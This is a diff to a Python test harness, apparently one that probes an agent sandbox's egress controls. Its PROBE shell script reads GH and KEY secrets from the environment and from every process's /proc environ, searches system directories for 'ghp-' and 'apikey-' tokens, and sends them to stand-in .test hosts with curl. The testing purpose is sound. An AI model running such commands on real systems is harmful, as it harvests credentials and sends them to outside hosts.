@@ -76,14 +76,16 @@ def run_shell(served: Served, agent: str, command: str, key: str | None = None, 
 PROBE = f"""
 echo "== env"; env | grep -E '^(GH|KEY|SSL_CERT_FILE|CURL_CA_BUNDLE)='
 echo "== proc"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -E '^(GH|KEY)=' | sort -u
-echo "== files"; ls /run/egress; grep -rIl -e ghp- -e apikey- /run /workspace /tmp /home /etc /opt 2>/dev/null | head
+echo "== files"; ls /run/egress
+grep -rIl -e ghp- -e apikey- /run /workspace /tmp /home /etc /opt 2>/dev/null | head
 echo "== secure"
 curl -sS -v "https://secure.test:{PORT}/a?q=$GH&key=$KEY" -H "X-Echo: $GH" -H "Authorization: box" \\
   --data "k=$KEY&g=$GH" 2>&1 | grep -E '^(> |< HTTP|\\*  issuer|seen)'
 echo "== python"
 python3 -c "import urllib.request; print(urllib.request.urlopen('https://secure.test:{PORT}/py').read().decode())"
 echo "== plain"
-curl -sS -vk "https://plain.test:{PORT}/p?q=$GH" -H "X-Echo: $GH" -H "X-Key: $KEY" 2>&1 | grep -E '^(\\*  issuer|seen)'
+curl -sS -vk "https://plain.test:{PORT}/p?q=$GH" -H "X-Echo: $GH" -H "X-Key: $KEY" 2>&1 \\
+  | grep -E '^(\\*  issuer|seen)'
 echo "== other"
 curl -sS -k "https://other.test:{PORT}/o" -H "Authorization: token $GH" 2>&1
 """
